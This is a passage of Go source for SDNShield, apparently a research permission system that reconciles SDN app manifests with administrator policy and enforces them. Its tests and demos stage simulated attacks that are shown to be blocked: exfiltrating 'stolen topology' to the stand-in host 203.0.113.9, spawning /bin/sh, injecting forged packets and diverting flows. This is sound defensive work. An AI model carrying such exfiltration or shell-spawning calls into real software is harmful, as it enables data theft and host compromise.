	pub, err := market.LoadPublicKey(filepath.Join(dir, "keys", vendor+".pub"))
	if err != nil {
		return 1, err
	}
	sr := market.Sign(market.Release{
		Name: app, Vendor: vendor, Version: version, Manifest: string(manifestSrc),
	}, priv)

	reg := market.NewRegistry()
	if err := reg.TrustVendor(vendor, pub); err != nil {
		return 1, err
	}
	if _, err := reg.Submit(sr); err != nil {
		return 1, fmt.Errorf("package does not vet: %w", err)
	}
	path, err := market.SaveRelease(dir, sr)
	if err != nil {
		return 1, err
	}
	fmt.Printf("signed release %s@%s (%s)\n%s\n", app, version, sr.Digest(), path)
	return 0, nil
}

// runMarketReport prints every stored release's reconciliation verdict
// and, per app, the permission diff between the two latest versions.
// With a telemetry address bound it then serves the /market/* endpoints
// until interrupted.
func runMarketReport(m *market.Market, quiet, strict bool, bound string) (int, error) {
	violated := false
	for _, app := range m.Registry().Apps() {
		rels := m.Registry().Releases(app)
		for _, rel := range rels {
			res, err := m.Evaluate(rel.Digest())
			if err != nil {
				return 1, err
			}
			if res.Verdict != market.VerdictApproved {
				violated = true
			}
			fmt.Printf("%s@%s [%s] %s\n", res.App, res.Version, res.Vendor, res.Verdict)
			if !quiet {
				for _, v := range res.Violations {
					fmt.Println("  -", v)
				}
				fmt.Println("  effective:")
				for _, line := range strings.Split(res.Effective, "\n") {
					fmt.Println("    " + line)
				}
			}
		}
		if !quiet && len(rels) >= 2 {
			report, _, err := m.DiffLatest(app)
			if err != nil {
				return 1, err
			}
			fmt.Print(report)
		}
	}
	if bound != "" {
		fmt.Fprintf(os.Stderr, "serving /market endpoints on http://%s/ — interrupt to exit\n", bound)
		select {} // OnShutdown flushes and exits on SIGINT/SIGTERM
	}
	if strict && violated {
		return 2, nil
	}
	return 0, nil
}
