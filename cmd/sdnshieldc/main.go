// Command sdnshieldc is the SDNShield permission compiler and
// reconciliation tool: it parses an app's permission manifest, verifies
// it against the administrator's security policy, and prints the
// reconciled permissions for review.
//
// Usage:
//
//	sdnshieldc -app monitor -manifest monitor.perm [-policy site.policy] [-strict]
//
// With -strict the exit code is 2 when the policy was violated (even if
// repaired), letting deployment pipelines gate on clean manifests.
package main

import (
	"flag"
	"fmt"
	"os"

	"sdnshield"
	"sdnshield/internal/bench"
)

func main() {
	code, err := run(os.Args[1:])
	if err != nil {
		fmt.Fprintln(os.Stderr, "sdnshieldc:", err)
		os.Exit(1)
	}
	os.Exit(code)
}

func run(args []string) (int, error) {
	fs := flag.NewFlagSet("sdnshieldc", flag.ContinueOnError)
	appName := fs.String("app", "app", "app identity the manifest belongs to")
	manifestPath := fs.String("manifest", "", "path to the permission manifest (required)")
	policyPath := fs.String("policy", "", "path to the security policy (optional)")
	strict := fs.Bool("strict", false, "exit with status 2 on any policy violation")
	quiet := fs.Bool("quiet", false, "print only the reconciled permissions")
	telemetryAddr := fs.String("telemetry-addr", "", "serve the telemetry endpoint (/metrics, /health, /audit, pprof) on this address, e.g. 127.0.0.1:9090")
	auditFile := fs.String("audit-file", "", "append audit events as JSONL to this file (rotated at 64 MiB)")
	if err := fs.Parse(args); err != nil {
		return 1, err
	}
	if *manifestPath == "" {
		fs.Usage()
		return 1, fmt.Errorf("-manifest is required")
	}

	stopTelemetry, bound, err := bench.StartTelemetry(*telemetryAddr)
	if err != nil {
		return 1, err
	}
	defer stopTelemetry()
	if bound != "" {
		fmt.Fprintf(os.Stderr, "telemetry endpoint on http://%s/\n", bound)
	}
	stopAudit, err := bench.StartAuditSink(*auditFile)
	if err != nil {
		return 1, err
	}
	defer stopAudit()
	// The reconciled permissions go to stdout; the digest must not mix in.
	defer func() { fmt.Fprintln(os.Stderr, bench.TelemetrySummary()) }()

	manifestSrc, err := os.ReadFile(*manifestPath)
	if err != nil {
		return 1, err
	}
	manifest, err := sdnshield.ParseManifest(string(manifestSrc))
	if err != nil {
		return 1, fmt.Errorf("parse manifest: %w", err)
	}

	var policy *sdnshield.Policy
	if *policyPath != "" {
		policySrc, err := os.ReadFile(*policyPath)
		if err != nil {
			return 1, err
		}
		policy, err = sdnshield.ParsePolicy(string(policySrc))
		if err != nil {
			return 1, fmt.Errorf("parse policy: %w", err)
		}
	}

	result, err := sdnshield.Reconcile(*appName, manifest, policy)
	if err != nil {
		return 1, err
	}

	if !*quiet {
		fmt.Printf("app: %s\n", result.App)
		if macros := manifest.Macros(); len(macros) > 0 {
			fmt.Printf("stub macros: %v\n", macros)
		}
		if result.Clean {
			fmt.Println("policy check: clean")
		} else {
			fmt.Printf("policy check: %d violation(s)\n", len(result.Violations))
			for _, v := range result.Violations {
				fmt.Println("  -", v)
			}
		}
		fmt.Println("reconciled permissions:")
	}
	fmt.Println(result.Permissions)

	if *strict && !result.Clean {
		return 2, nil
	}
	return 0, nil
}
