package main

import (
	"os"
	"path/filepath"
	"testing"
)

func writeFile(t *testing.T, name, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestRunScenario1(t *testing.T) {
	manifest := writeFile(t, "m.perm", `
PERM visible_topology LIMITING LocalTopo
PERM read_statistics
PERM network_access LIMITING AdminRange
PERM insert_flow
`)
	policy := writeFile(t, "p.policy", `
LET LocalTopo = {SWITCH 0,1 LINK 0-1}
LET AdminRange = {IP_DST 10.1.0.0 MASK 255.255.0.0}
ASSERT EITHER { PERM network_access } OR { PERM insert_flow }
`)

	code, err := run([]string{"-app", "monitor", "-manifest", manifest, "-policy", policy})
	if err != nil || code != 0 {
		t.Fatalf("run = (%d, %v)", code, err)
	}

	// -strict turns the (repaired) violation into exit code 2.
	code, err = run([]string{"-app", "monitor", "-manifest", manifest, "-policy", policy, "-strict"})
	if err != nil || code != 2 {
		t.Fatalf("strict run = (%d, %v), want exit 2", code, err)
	}

	// Without a policy the stub macros stay unbound, which -strict flags.
	code, err = run([]string{"-app", "monitor", "-manifest", manifest, "-quiet", "-strict"})
	if err != nil || code != 2 {
		t.Fatalf("unbound-stub run = (%d, %v), want exit 2", code, err)
	}

	// A stub-free manifest without a policy is clean.
	plain := writeFile(t, "plain.perm", "PERM read_statistics LIMITING PORT_LEVEL")
	code, err = run([]string{"-app", "monitor", "-manifest", plain, "-quiet", "-strict"})
	if err != nil || code != 0 {
		t.Fatalf("policy-less run = (%d, %v)", code, err)
	}
}

func TestRunMarketMode(t *testing.T) {
	dir := t.TempDir()

	// Keygen creates the vendor keypair.
	code, err := run([]string{"-market-dir", dir, "-market-keygen", "acme"})
	if err != nil || code != 0 {
		t.Fatalf("keygen = (%d, %v)", code, err)
	}
	// A second keygen for the same vendor must refuse to overwrite.
	if _, err := run([]string{"-market-dir", dir, "-market-keygen", "acme"}); err == nil {
		t.Fatal("keygen overwrote an existing key")
	}

	// Sign two releases of the same app.
	m1 := writeFile(t, "v1.perm", "PERM read_statistics\nPERM insert_flow LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0")
	code, err = run([]string{"-market-dir", dir, "-market-sign", "-app", "mon",
		"-market-vendor", "acme", "-market-version", "1.0.0", "-manifest", m1})
	if err != nil || code != 0 {
		t.Fatalf("sign v1 = (%d, %v)", code, err)
	}
	m2 := writeFile(t, "v2.perm", "PERM read_statistics\nPERM insert_flow LIMITING IP_DST 10.1.0.0 MASK 255.255.0.0")
	code, err = run([]string{"-market-dir", dir, "-market-sign", "-app", "mon",
		"-market-vendor", "acme", "-market-version", "1.1.0", "-manifest", m2})
	if err != nil || code != 0 {
		t.Fatalf("sign v2 = (%d, %v)", code, err)
	}
	// Signing with an untrusted vendor fails (no key on disk).
	if _, err := run([]string{"-market-dir", dir, "-market-sign", "-app", "mon",
		"-market-vendor", "ghost", "-market-version", "1.0.0", "-manifest", m1}); err == nil {
		t.Fatal("sign with a missing vendor key succeeded")
	}

	// The report mode loads, reconciles and diffs the store.
	policy := writeFile(t, "p.policy", `
LET Bound = { PERM read_statistics PERM insert_flow LIMITING IP_DST 10.1.0.0 MASK 255.255.0.0 }
ASSERT mon <= Bound
`)
	code, err = run([]string{"-market-dir", dir, "-policy", policy})
	if err != nil || code != 0 {
		t.Fatalf("report = (%d, %v)", code, err)
	}
	// v1 exceeds the boundary, so -strict gates to exit 2.
	code, err = run([]string{"-market-dir", dir, "-policy", policy, "-strict"})
	if err != nil || code != 2 {
		t.Fatalf("strict report = (%d, %v), want exit 2", code, err)
	}
}

func TestRunErrors(t *testing.T) {
	good := writeFile(t, "m.perm", "PERM read_statistics")
	bad := writeFile(t, "bad.perm", "PERM levitate")
	badPolicy := writeFile(t, "bad.policy", "FROB")

	tests := []struct {
		name string
		args []string
	}{
		{"missing manifest flag", nil},
		{"nonexistent manifest", []string{"-manifest", "/nonexistent"}},
		{"unparsable manifest", []string{"-manifest", bad}},
		{"nonexistent policy", []string{"-manifest", good, "-policy", "/nonexistent"}},
		{"unparsable policy", []string{"-manifest", good, "-policy", badPolicy}},
		{"bad flag", []string{"-frobnicate"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := run(tt.args); err == nil {
				t.Error("expected error")
			}
		})
	}
}
