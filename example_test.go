package sdnshield_test

import (
	"fmt"

	"sdnshield"
)

// ExampleReconcile walks the paper's Scenario 1: the monitoring app's
// shipped manifest is reconciled against the administrator's policy; the
// mutual exclusion fires and insert_flow is revoked.
func ExampleReconcile() {
	manifest, _ := sdnshield.ParseManifest(`
PERM visible_topology LIMITING LocalTopo
PERM read_statistics
PERM network_access LIMITING AdminRange
PERM insert_flow
`)
	policy, _ := sdnshield.ParsePolicy(`
LET LocalTopo = {SWITCH 0,1 LINK 0-1}
LET AdminRange = {IP_DST 10.1.0.0 MASK 255.255.0.0}
ASSERT EITHER { PERM network_access } OR { PERM insert_flow }
`)
	result, _ := sdnshield.Reconcile("monitor", manifest, policy)
	fmt.Println("clean:", result.Clean)
	fmt.Println(result.Permissions)
	// Output:
	// clean: false
	// PERM visible_topology LIMITING SWITCH {0,1} LINK {0-1}
	// PERM read_statistics
	// PERM host_network LIMITING IP_DST 10.1.0.0 MASK 255.255.0.0
}

// ExamplePermissions_Check enforces the reconciled permissions on two
// host-network calls: the admin collector passes, the exfiltration
// attempt is denied.
func ExamplePermissions_Check() {
	manifest, _ := sdnshield.ParseManifest(
		"PERM host_network LIMITING IP_DST 10.1.0.0 MASK 255.255.0.0")
	perms := manifest.Permissions()

	report := perms.Check(sdnshield.APICall{
		App: "monitor", Permission: "host_network",
		HostIP: "10.1.0.9", HostPort: 443,
	})
	leak := perms.Check(sdnshield.APICall{
		App: "monitor", Permission: "host_network",
		HostIP: "203.0.113.9", HostPort: 80,
	})
	fmt.Println("report to collector:", report)
	fmt.Println("exfiltration denied:", leak != nil)
	// Output:
	// report to collector: <nil>
	// exfiltration denied: true
}

// ExamplePermissions_Restrict shows the §V-A customization path: the
// administrator appends a filter to a granted permission.
func ExamplePermissions_Restrict() {
	manifest, _ := sdnshield.ParseManifest("PERM insert_flow")
	perms := manifest.Permissions()
	_ = perms.Restrict("insert_flow", "ACTION FORWARD AND MAX_PRIORITY 100")
	fmt.Println(perms)
	// Output:
	// PERM insert_flow LIMITING (ACTION FORWARD AND MAX_PRIORITY 100)
}
