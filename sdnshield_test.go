package sdnshield

import (
	"strings"
	"testing"
)

const scenario1ManifestSrc = `
PERM visible_topology LIMITING LocalTopo
PERM read_statistics
PERM network_access LIMITING AdminRange
PERM insert_flow
`

const scenario1PolicySrc = `
LET LocalTopo = {SWITCH 0,1 LINK 0-1}
LET AdminRange = {IP_DST 10.1.0.0 MASK 255.255.0.0}
ASSERT EITHER { PERM network_access } OR { PERM insert_flow }
`

func TestFacadeScenario1Pipeline(t *testing.T) {
	manifest, err := ParseManifest(scenario1ManifestSrc)
	if err != nil {
		t.Fatal(err)
	}
	if macros := manifest.Macros(); len(macros) != 2 {
		t.Errorf("macros = %v", macros)
	}
	policy, err := ParsePolicy(scenario1PolicySrc)
	if err != nil {
		t.Fatal(err)
	}

	res, err := Reconcile("monitor", manifest, policy)
	if err != nil {
		t.Fatal(err)
	}
	if res.Clean {
		t.Error("scenario 1 has a mutual-exclusion violation")
	}
	if len(res.Violations) != 1 || res.Violations[0].Kind != "mutual-exclusion" {
		t.Fatalf("violations = %v", res.Violations)
	}
	if res.Violations[0].String() == "" {
		t.Error("violation rendering empty")
	}
	if res.Permissions.Has("insert_flow") {
		t.Error("insert_flow must be truncated")
	}
	if !res.Requested.Has("insert_flow") {
		t.Error("Requested must keep the pre-repair set")
	}
	if !res.Permissions.Has("network_access") { // alias for host_network
		t.Error("alias lookup failed")
	}
	if got := len(res.Permissions.Tokens()); got != 3 {
		t.Errorf("final tokens = %v", res.Permissions.Tokens())
	}

	// Admin-range connects pass; exfiltration is denied.
	okCall := APICall{App: "monitor", Permission: "host_network", HostIP: "10.1.3.4", HostPort: 443}
	if err := res.Permissions.Check(okCall); err != nil {
		t.Errorf("admin connect denied: %v", err)
	}
	leak := APICall{App: "monitor", Permission: "host_network", HostIP: "203.0.113.9", HostPort: 80}
	err = res.Permissions.Check(leak)
	if err == nil {
		t.Fatal("leak should be denied")
	}
	var denied *DeniedError
	if !strings.Contains(err.Error(), "host_network") || !asDenied(err, &denied) {
		t.Errorf("err = %v", err)
	}

	// Topology visibility honours the LocalTopo stub binding.
	if err := res.Permissions.Check(APICall{App: "monitor", Permission: "read_topology",
		SwitchSet: []uint64{0, 1}}); err != nil {
		t.Errorf("local switches denied: %v", err)
	}
	if err := res.Permissions.Check(APICall{App: "monitor", Permission: "read_topology",
		SwitchSet: []uint64{5}}); err == nil {
		t.Error("foreign switch should be hidden")
	}
}

func asDenied(err error, target **DeniedError) bool {
	d, ok := err.(*DeniedError)
	if ok {
		*target = d
	}
	return ok
}

func TestFacadeAPICallTranslation(t *testing.T) {
	manifest, err := ParseManifest(`
PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS AND MAX_PRIORITY 100 AND IP_DST 10.13.0.0 MASK 255.255.0.0
PERM read_statistics LIMITING PORT_LEVEL
PERM send_pkt_out LIMITING FROM_PKT_IN
`)
	if err != nil {
		t.Fatal(err)
	}
	perms := manifest.Permissions()

	allowed := APICall{
		App: "router", Permission: "insert_flow",
		Switch: 1, HasSwitch: true,
		IPDst: "10.13.7.7", Priority: 50,
		Actions:      []string{"forward"},
		HasFlowOwner: true,
	}
	if err := perms.Check(allowed); err != nil {
		t.Errorf("allowed insert denied: %v", err)
	}

	tests := []struct {
		name   string
		mutate func(*APICall)
	}{
		{"foreign flow", func(c *APICall) { c.FlowOwner = "firewall" }},
		{"priority too high", func(c *APICall) { c.Priority = 999 }},
		{"drop action", func(c *APICall) { c.Actions = []string{"drop"} }},
		{"outside subnet", func(c *APICall) { c.IPDst = "192.168.0.1" }},
		{"cidr outside", func(c *APICall) { c.IPDst = "10.14.0.0/16" }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			call := allowed
			tt.mutate(&call)
			if err := perms.Check(call); err == nil {
				t.Error("expected denial")
			}
		})
	}

	// Stats level ordering.
	if err := perms.Check(APICall{App: "router", Permission: "read_statistics", StatsLevel: "switch"}); err != nil {
		t.Errorf("switch stats denied: %v", err)
	}
	if err := perms.Check(APICall{App: "router", Permission: "read_statistics", StatsLevel: "flow"}); err == nil {
		t.Error("flow stats should exceed PORT_LEVEL")
	}

	// Provenance.
	if err := perms.Check(APICall{App: "router", Permission: "send_packet_out",
		FromPacketIn: true, HasProvenance: true}); err != nil {
		t.Errorf("buffered pkt-out denied: %v", err)
	}
	if err := perms.Check(APICall{App: "router", Permission: "send_packet_out",
		FromPacketIn: false, HasProvenance: true}); err == nil {
		t.Error("forged pkt-out should be denied")
	}
}

func TestFacadeErrors(t *testing.T) {
	if _, err := ParseManifest("PERM teleport"); err == nil {
		t.Error("bad manifest accepted")
	}
	if _, err := ParsePolicy("ASSERT"); err == nil {
		t.Error("bad policy accepted")
	}
	manifest, _ := ParseManifest("PERM insert_flow")
	perms := manifest.Permissions()
	bad := []APICall{
		{App: "a", Permission: "levitate"},
		{App: "a", Permission: "insert_flow", IPDst: "999.0.0.1"},
		{App: "a", Permission: "insert_flow", IPDst: "10.0.0.1/99"},
		{App: "a", Permission: "insert_flow", IPDst: "10.0.1"},
		{App: "a", Permission: "insert_flow", Actions: []string{"explode"}},
		{App: "a", Permission: "insert_flow", Actions: []string{"modify:NOPE"}},
		{App: "a", Permission: "read_statistics", StatsLevel: "cosmic"},
		{App: "a", Permission: "host_network", HostIP: "10.o.0.1"},
	}
	for _, c := range bad {
		if err := perms.Check(c); err == nil {
			t.Errorf("call %+v should error", c)
		}
	}
	// Reconcile with nil policy = macro expansion only.
	m, _ := ParseManifest("PERM read_statistics")
	res, err := Reconcile("x", m, nil)
	if err != nil || !res.Clean {
		t.Errorf("nil policy reconcile = (%v, %v)", res, err)
	}
}

func TestFacadeRestrictAndRevoke(t *testing.T) {
	manifest, _ := ParseManifest("PERM insert_flow\nPERM read_statistics")
	perms := manifest.Permissions()

	// §V-A customization: append a virtual/physical topology filter.
	if err := perms.Restrict("insert_flow", "IP_DST 10.13.0.0 MASK 255.255.0.0 AND ACTION FORWARD"); err != nil {
		t.Fatal(err)
	}
	okCall := APICall{App: "t", Permission: "insert_flow",
		IPDst: "10.13.1.1", Actions: []string{"forward"}}
	if err := perms.Check(okCall); err != nil {
		t.Errorf("in-scope insert denied: %v", err)
	}
	bad := okCall
	bad.IPDst = "10.14.1.1"
	if err := perms.Check(bad); err == nil {
		t.Error("out-of-scope insert should be denied after Restrict")
	}
	bad2 := okCall
	bad2.Actions = []string{"drop"}
	if err := perms.Check(bad2); err == nil {
		t.Error("drop should be denied after Restrict")
	}

	// Errors surface.
	if err := perms.Restrict("warp", "OWN_FLOWS"); err == nil {
		t.Error("unknown token accepted")
	}
	if err := perms.Restrict("insert_flow", "IP_DST OOPS"); err == nil {
		t.Error("bad filter accepted")
	}
	if err := perms.Restrict("insert_flow", "OWN_FLOWS trailing"); err == nil {
		t.Error("trailing garbage accepted")
	}

	if err := perms.Revoke("read_statistics"); err != nil {
		t.Fatal(err)
	}
	if perms.Has("read_statistics") {
		t.Error("revoke failed")
	}
	if err := perms.Revoke("levitate"); err == nil {
		t.Error("unknown token revoke accepted")
	}
}

func TestPermissionsTokensDeterministic(t *testing.T) {
	// Two manifests listing the same permissions in different order must
	// expose identical token listings.
	srcA := "PERM read_statistics\nPERM insert_flow\nPERM visible_topology"
	srcB := "PERM visible_topology\nPERM insert_flow\nPERM read_statistics"
	var listings [][]string
	for _, src := range []string{srcA, srcB} {
		m, err := ParseManifest(src)
		if err != nil {
			t.Fatal(err)
		}
		res, err := Reconcile("app", m, nil)
		if err != nil {
			t.Fatal(err)
		}
		listings = append(listings, res.Permissions.Tokens())
	}
	if strings.Join(listings[0], ",") != strings.Join(listings[1], ",") {
		t.Fatalf("Tokens() depends on manifest order: %v vs %v", listings[0], listings[1])
	}
}
