// Quickstart: the SDNShield permission pipeline in ~60 lines — parse an
// app's permission manifest, reconcile it against the administrator's
// security policy, and enforce the result on concrete API calls.
package main

import (
	"fmt"
	"log"

	"sdnshield"
)

// The app developer ships this manifest with the app release. The stubs
// LocalTopo and AdminRange are left for the administrator to bind.
const manifestSrc = `
PERM visible_topology LIMITING LocalTopo
PERM read_statistics
PERM network_access LIMITING AdminRange
PERM insert_flow
`

// The administrator's local security policy: bind the stubs and forbid
// any single app from holding both network access and rule insertion —
// the combination behind remote-controlled rule manipulation.
const policySrc = `
LET LocalTopo = {SWITCH 0,1 LINK 0-1}
LET AdminRange = {IP_DST 10.1.0.0 MASK 255.255.0.0}
ASSERT EITHER { PERM network_access } OR { PERM insert_flow }
`

func main() {
	manifest, err := sdnshield.ParseManifest(manifestSrc)
	if err != nil {
		log.Fatal(err)
	}
	policy, err := sdnshield.ParsePolicy(policySrc)
	if err != nil {
		log.Fatal(err)
	}

	result, err := sdnshield.Reconcile("monitor", manifest, policy)
	if err != nil {
		log.Fatal(err)
	}

	fmt.Println("== reconciliation report ==")
	for _, v := range result.Violations {
		fmt.Println(" ", v)
	}
	fmt.Println("\n== final permissions ==")
	fmt.Println(result.Permissions)

	fmt.Println("\n== runtime checks ==")
	check := func(desc string, call sdnshield.APICall) {
		if err := result.Permissions.Check(call); err != nil {
			fmt.Printf("  DENY  %-42s %v\n", desc, err)
		} else {
			fmt.Printf("  ALLOW %s\n", desc)
		}
	}
	check("report to the admin collector", sdnshield.APICall{
		App: "monitor", Permission: "host_network", HostIP: "10.1.0.9", HostPort: 443,
	})
	check("exfiltrate to an outside host", sdnshield.APICall{
		App: "monitor", Permission: "host_network", HostIP: "203.0.113.9", HostPort: 80,
	})
	check("read port statistics", sdnshield.APICall{
		App: "monitor", Permission: "read_statistics", StatsLevel: "port",
	})
	check("insert a forwarding rule (truncated)", sdnshield.APICall{
		App: "monitor", Permission: "insert_flow",
		IPDst: "10.0.0.1", Priority: 10, Actions: []string{"forward"},
	})
}
