// Declarative demonstrates the §VI-C extension: apps written in a
// high-level declarative policy language (the Frenetic/Pyretic family)
// are composed and compiled to OpenFlow rules; the compiler tracks which
// app contributed each action through the composition, SDNShield checks
// every owner's contribution separately, and rules are installed with the
// denied app's actions stripped — partial denial instead of all-or-
// nothing.
package main

import (
	"fmt"
	"log"

	"sdnshield/internal/hll"
	"sdnshield/internal/of"
	"sdnshield/internal/permengine"
	"sdnshield/internal/permlang"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	// --- three apps, written declaratively ---
	hostB := of.IPv4FromOctets(10, 0, 0, 2)
	policies := map[string]hll.Policy{
		// The router forwards traffic for host B out port 3.
		"router": hll.Seq(hll.Filter(hll.FIPDst(hostB, 32)), hll.Fwd(3)),
		// The monitor mirrors all HTTP traffic to the controller.
		"monitor": hll.Seq(hll.Filter(hll.FTPDst(80)), hll.Fwd(of.PortController)),
		// The firewall drops SSH.
		"firewall": hll.Seq(hll.Filter(hll.FEthType(of.EthTypeIPv4), hll.FTPDst(22)), hll.Drop()),
	}

	rules, err := hll.Compile(policies)
	if err != nil {
		return err
	}
	fmt.Println("== compiled classifier (with per-action ownership) ==")
	for _, r := range rules {
		fmt.Printf("  prio=%-4d %-60s", r.Priority, r.Match)
		for _, a := range r.Actions {
			fmt.Printf("  [%s]%s", a.Owner, a.Action)
		}
		fmt.Println()
	}

	// --- permissions: the monitor may NOT send packets to the controller
	// (its insert_flow is limited to pure forwarding on port 3 space it
	// doesn't own; here simply: no insert_flow at all) ---
	engine := permengine.New(nil)
	engine.SetPermissions("router", permlang.MustParse(
		"PERM insert_flow LIMITING ACTION FORWARD").Set())
	engine.SetPermissions("firewall", permlang.MustParse(
		"PERM insert_flow LIMITING ACTION DROP").Set())
	// monitor: deliberately no grant.

	fmt.Println("\n== shielded installation (ownership splitting) ==")
	report, err := hll.InstallShielded(engine, 1, rules,
		func(owner string, dpid of.DPID, match *of.Match, priority uint16, actions []of.Action) error {
			fmt.Printf("  INSTALL owner=%-16s prio=%-4d %s -> %s\n",
				owner, priority, match, of.ActionsString(actions))
			return nil
		})
	if err != nil {
		return err
	}
	fmt.Printf("\nreport: %d intact, %d partial, %d dropped\n",
		report.Installed, report.Partial, report.Dropped)
	for _, d := range report.Denied {
		fmt.Printf("  denied: %s on %s (%v)\n", d.Owner, d.Rule.Match, d.Err)
	}
	return nil
}
