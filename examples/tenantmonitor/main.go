// Tenantmonitor reenacts §VII Scenario 1 end to end on the full stack: a
// multi-tenant network simulated by internal/netsim, an SDNShield-enabled
// controller, and the tenant's monitoring app — which carries a
// vulnerability granting the attacker arbitrary code execution. The
// reconciled permissions confine the compromise: usage reports still
// reach the administrator, while traffic injection, rule manipulation and
// exfiltration all fail.
package main

import (
	"fmt"
	"log"
	"time"

	"sdnshield/internal/apps"
	"sdnshield/internal/controller"
	"sdnshield/internal/isolation"
	"sdnshield/internal/netsim"
	"sdnshield/internal/of"
	"sdnshield/internal/permlang"
	"sdnshield/internal/policylang"
	"sdnshield/internal/reconcile"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	// --- the tenant's network: two switches, two hosts ---
	built, err := netsim.Linear(2)
	if err != nil {
		return err
	}
	defer built.Net.Stop()
	kernel := controller.New(built.Topo, nil)
	defer kernel.Stop()
	for _, sw := range built.Net.Switches() {
		ctrlSide, swSide := of.Pipe()
		if err := sw.Start(swSide); err != nil {
			return err
		}
		if _, err := kernel.AcceptSwitch(ctrlSide); err != nil {
			return err
		}
	}
	shield := isolation.NewShield(kernel, isolation.Config{ActivityLogSize: 4096})
	defer shield.Stop()

	// The admin's collector and the attacker's drop box on the host net.
	adminIP := of.IPv4FromOctets(10, 1, 0, 9)
	collector := kernel.HostOS().RegisterEndpoint(adminIP, 443)
	attacker := kernel.HostOS().RegisterEndpoint(of.IPv4FromOctets(203, 0, 113, 9), 80)

	// --- reconcile the app's shipped manifest with the local policy ---
	monitor := apps.NewMonitor("monitor", adminIP, 443)
	manifest, err := permlang.Parse(monitor.RequiredPermissions())
	if err != nil {
		return err
	}
	policy, err := policylang.Parse(`
LET LocalTopo = {SWITCH 1,2 LINK 1-2}
LET AdminRange = {IP_DST 10.1.0.0 MASK 255.255.0.0}
ASSERT EITHER { PERM network_access } OR { PERM insert_flow }
`)
	if err != nil {
		return err
	}
	result, err := reconcile.New().Reconcile("monitor", manifest, policy)
	if err != nil {
		return err
	}
	fmt.Println("== reconciliation ==")
	for _, v := range result.Violations {
		fmt.Println(" ", v)
	}
	fmt.Println("\n== deployed permissions ==")
	fmt.Println(result.Reconciled)

	shield.SetPermissions("monitor", result.Reconciled)
	if err := shield.Launch(monitor); err != nil {
		return err
	}

	// --- legitimate behaviour: a usage report reaches the admin ---
	fmt.Println("\n== legitimate monitoring ==")
	if err := monitor.Poll(); err != nil {
		return fmt.Errorf("poll: %w", err)
	}
	fmt.Printf("  usage reports delivered to admin: %d\n", len(collector.Received()))

	// --- the app is compromised: the attacker tries each attack class ---
	fmt.Println("\n== compromised app: attack attempts ==")
	api := monitorAPI(shield) // the attacker holds the app's API handle

	// Class 1: inject a forged packet.
	forged := of.NewTCPPacket(of.MAC{9}, of.MAC{8}, 1, 2, 3, 80, of.TCPFlagRST)
	reportAttack("inject TCP RST into the data plane",
		api.SendPacketOut(1, 0, of.PortNone, []of.Action{of.Flood()}, forged))

	// Class 2: exfiltrate the topology.
	err = func() error {
		conn, err := api.HostConnect(of.IPv4FromOctets(203, 0, 113, 9), 80)
		if err != nil {
			return err
		}
		conn.Send([]byte("stolen topology"))
		return nil
	}()
	reportAttack("exfiltrate topology to 203.0.113.9", err)

	// Class 3: manipulate forwarding rules.
	reportAttack("install a traffic-diverting rule",
		api.InsertFlow(1, controller.FlowSpec{
			Match:    of.NewMatch().Set(of.FieldIPDst, uint64(built.Hosts[1].IP())),
			Priority: 999,
			Actions:  []of.Action{of.Output(2)},
		}))

	// Class 4: tamper with another app's state via the host.
	reportAttack("spawn a shell on the controller host", api.HostExec("/bin/sh"))

	fmt.Printf("\nattacker's drop box received %d payload(s)\n", len(attacker.Received()))

	// --- the forensic log recorded every denied attempt ---
	time.Sleep(10 * time.Millisecond)
	fmt.Println("\n== activity log (denials) ==")
	for _, rec := range shield.Engine().Log().Denials() {
		fmt.Println(" ", rec)
	}
	return nil
}

// monitorAPI retrieves the app's mediated API handle the way a
// code-execution exploit inside the app would: it *is* the app.
func monitorAPI(shield *isolation.Shield) isolation.API {
	api, err := isolation.AttackerHandle(shield, "monitor")
	if err != nil {
		log.Fatal(err)
	}
	return api
}

func reportAttack(desc string, err error) {
	if err != nil {
		fmt.Printf("  BLOCKED %-45s %v\n", desc, err)
	} else {
		fmt.Printf("  SUCCESS %s\n", desc)
	}
}
