// Maliciousrouting reenacts §VII Scenario 2: the administrator deploys a
// routing app containing malicious code. Under its Scenario 2 permissions
// (insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS, no host network),
// the app routes traffic correctly — but its covert attacks fail: it
// cannot call home, cannot overwrite the firewall's ACL, and cannot
// tunnel through it; everything it does is in the forensic log.
package main

import (
	"fmt"
	"log"
	"time"

	"sdnshield/internal/apps"
	"sdnshield/internal/controller"
	"sdnshield/internal/isolation"
	"sdnshield/internal/netsim"
	"sdnshield/internal/of"
	"sdnshield/internal/permlang"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	built, err := netsim.Linear(3)
	if err != nil {
		return err
	}
	defer built.Net.Stop()
	kernel := controller.New(built.Topo, nil)
	defer kernel.Stop()
	for _, sw := range built.Net.Switches() {
		ctrlSide, swSide := of.Pipe()
		if err := sw.Start(swSide); err != nil {
			return err
		}
		if _, err := kernel.AcceptSwitch(ctrlSide); err != nil {
			return err
		}
	}
	shield := isolation.NewShield(kernel, isolation.Config{ActivityLogSize: 4096})
	defer shield.Stop()

	// A trusted firewall blocks TCP 22 across the fabric.
	firewall := apps.NewFirewall("firewall", []uint16{22})
	shield.SetPermissions("firewall", permlang.MustParse(firewall.RequiredPermissions()).Set())
	if err := shield.Launch(firewall); err != nil {
		return err
	}

	// The routing app ships with the §VII Scenario 2 permissions.
	router := apps.NewRouter("router")
	shield.SetPermissions("router", permlang.MustParse(router.RequiredPermissions()).Set())
	if err := shield.Launch(router); err != nil {
		return err
	}

	h1, h2, h3 := built.Hosts[0], built.Hosts[1], built.Hosts[2]

	// --- benign behaviour: shortest-path routing works ---
	fmt.Println("== benign routing ==")
	h1.SendTCP(h2, 4000, 80, of.TCPFlagSYN, []byte("hello"))
	if _, ok := h2.WaitFor(func(p *of.Packet) bool { return p.TPDst == 80 }, 2*time.Second); ok {
		fmt.Println("  h1 -> h2 HTTP delivered via router-installed path")
	} else {
